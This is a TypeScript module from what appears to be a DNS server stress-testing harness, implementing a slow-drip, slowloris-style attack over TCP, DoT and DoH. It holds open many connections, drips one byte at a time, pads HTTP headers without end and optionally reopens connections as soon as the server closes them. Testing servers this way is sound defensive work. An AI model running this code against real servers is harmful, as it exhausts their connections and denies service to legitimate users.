// Slow-drip and reconnect-churn on a stream transport (TCP, DoT, DoH over TLS): many
// connections from one source, each sending one byte of a message every `dripMs` so that no
// message ever completes; with `reopen`, every connection the server closes is opened again
// at once (the client that defeats a per-request deadline). Bounded by connects and time.

import net from 'node:net';
import tls from 'node:tls';
import type { AttackReport, AttackSpec } from '../spec.ts';

type Spec = Extract<AttackSpec, { kind: 'slow-drip' }>;

/** The bytes a connection drips: a DNS length prefix and query, or an HTTP/1.1 request head. */
function payload(s: Spec): Buffer {
  if (s.transport === 'doh') {
    // Headers that never end: one more pad header after another (RFC 9112 §5).
    return Buffer.from(`POST /dns-query HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/dns-message\r\n${'X-Pad: aaaaaaaa\r\n'.repeat(64)}`);
  }
  const q = Buffer.from('abcd01000001000000000000' + '03777777076578616d706c6500' + '00010001', 'hex');
  const framed = Buffer.alloc(2 + q.length);
  framed.writeUInt16BE(q.length, 0);
  q.copy(framed, 2);
  return framed;
}

export async function slowDrip(s: Spec): Promise<AttackReport> {
  const bytes = payload(s);
  const counters = { connects: 0, established: 0, closedByServer: 0, connectErrors: 0, bytesDripped: 0, maxOpen: 0 };
  const open = new Set<net.Socket>();
  let stopping = false;
  const end = Date.now() + s.durationS * 1000;

  const connect = (): void => {
    if (stopping || counters.connects >= s.maxConnects || Date.now() >= end) return;
    counters.connects++;
    const base = { host: s.host, port: s.port, localAddress: s.source };
    const socket: net.Socket =
      s.transport === 'tcp'
        ? net.connect(base)
        : tls.connect({ ...base, rejectUnauthorized: false, ALPNProtocols: s.transport === 'dot' ? ['dot'] : ['http/1.1'] });
    let pos = 0;
    let timer: NodeJS.Timeout | undefined;
    let up = false;
    socket.once(s.transport === 'tcp' ? 'connect' : 'secureConnect', () => {
      up = true;
      counters.established++;
      open.add(socket);
      counters.maxOpen = Math.max(counters.maxOpen, open.size);
      const drip = (): void => {
        if (socket.destroyed) return;
        socket.write(bytes.subarray(pos % bytes.length, (pos % bytes.length) + 1));
        pos++;
        counters.bytesDripped++;
      };
      drip();
      timer = setInterval(drip, s.dripMs);
    });
    socket.on('data', () => {}); // replies (errors, GOAWAY) are read and dropped
    socket.on('error', () => {
      if (!up) counters.connectErrors++;
    });
    socket.on('close', () => {
      clearInterval(timer);
      open.delete(socket);
      if (stopping) return;
      if (up) counters.closedByServer++;
      // A refused connection is tried again (a slot may free up: grab it); a connection the
      // server closed is reopened only in churn mode.
      if (!up) setTimeout(connect, 50);
      else if (s.reopen) setImmediate(connect);
    });
  };

  // Ramp up in bursts so the listen backlog is not what refuses them.
  for (let i = 0; i < s.connections && !stopping; i++) {
    connect();
    if (i % 100 === 99) await new Promise((r) => setTimeout(r, 30));
  }
  await new Promise((r) => setTimeout(r, Math.max(0, end - Date.now())));
  stopping = true;
  for (const socket of open) socket.destroy();
  return { sent: counters.connects, received: counters.closedByServer, counters };
}
